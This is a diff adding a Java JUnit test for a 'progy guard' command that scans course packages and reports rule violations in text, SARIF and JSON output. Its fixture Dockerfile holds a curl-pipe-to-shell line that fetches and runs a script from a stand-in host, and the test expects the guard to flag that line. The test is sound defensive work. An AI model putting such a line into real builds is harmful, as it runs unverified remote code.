@@ -1,0 +1,64 @@
+package dev.progy.cli;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import dev.progy.ProgyJson;
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/** {@code progy guard} as a publisher and a CI job use it. */
+class GuardCommandTest {
+
+    @TempDir
+    Path tmp;
+
+    private Path hostileCourse() throws IOException {
+        Path c = Files.createDirectories(tmp.resolve("hostile"));
+        Files.writeString(c.resolve("course.json"), """
+                {"id": "hostile", "name": "Hostile", "runners": [{"id": "box", "type": "docker-file", "command": "sh"}]}
+                """);
+        Files.writeString(c.resolve("Dockerfile"), "FROM alpine\nRUN curl -s https://x.example/i.sh | sh\n");
+        Path ex = Files.createDirectories(c.resolve("content/01_m/01_e"));
+        Files.writeString(ex.resolve("README.md"), "# E\n");
+        Files.writeString(ex.resolve("exercise.sh"), "exit 0\n");
+        return c;
+    }
+
+    @Test
+    @DisplayName("a sample course passes with exit 0")
+    void samplePasses() {
+        CliHarness.Result r = new CliHarness(tmp).run("guard", CliHarness.example("java-basics").toString(), "--no-color");
+        assertThat(r.code()).as(r.toString()).isZero();
+        assertThat(r.out()).contains("✓ passes: 0 errors");
+    }
+
+    @Test
+    @DisplayName("a hostile course fails with exit 1, each finding with its rule, file and line, and a fix")
+    void hostileFails() throws IOException {
+        hostileCourse();
+        CliHarness.Result r = new CliHarness(tmp).run("guard", "hostile", "--no-color");
+        assertThat(r.code()).isEqualTo(ExitCode.FAILED);
+        assertThat(r.out()).contains("error Dockerfile:2 [PG-D005]", "warning Dockerfile:1 [PG-D001]", "fix: ",
+                "✗ does not pass: 1 errors");
+    }
+
+    @Test
+    @DisplayName("--sarif and --json print what programs read; --rules lists every rule")
+    void machineOutput() throws IOException {
+        hostileCourse();
+        CliHarness cli = new CliHarness(tmp);
+        JsonNode sarif = ProgyJson.parse(cli.run("guard", "hostile", "--sarif").out());
+        assertThat(sarif.path("version").asText()).isEqualTo("2.1.0");
+        assertThat(sarif.at("/runs/0/results").findValuesAsText("ruleId")).contains("PG-D005", "PG-D001", "PG-D003");
+        JsonNode json = ProgyJson.parse(cli.run("guard", "hostile", "--json").out());
+        assertThat(json.path("passed").asBoolean()).isFalse();
+        assertThat(json.at("/counts/error").asInt()).isEqualTo(1);
+        assertThat(cli.run("guard", "--rules", "--no-color").out()).contains("PG-D001", "PG-C001", "PG-N001", "hadolint");
+    }
+}
